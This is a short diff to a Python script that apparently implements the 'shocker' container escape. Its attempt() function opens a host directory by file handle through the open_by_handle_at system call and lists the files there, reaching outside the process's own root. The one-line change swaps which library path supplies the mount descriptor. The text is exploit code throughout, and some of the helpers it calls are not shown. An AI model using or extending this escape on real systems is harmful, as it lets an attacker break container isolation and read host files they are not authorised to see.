@@ -9,7 +9,7 @@ import struct
 # The "shocker": an inode number on the file system that any open file lies on
 # is enough, wherever one's own root is.
 def attempt():
-    mount = os.open(os.path.dirname(os.__file__), os.O_RDONLY)
+    mount = os.open(os.path.dirname(library()), os.O_RDONLY)
     def open_handle(handle):
         fd = syscall("open_by_handle_at", mount, handle, os.O_RDONLY | os.O_DIRECTORY)
         return "opened a folder with " + str(os.listdir(fd)[:5])
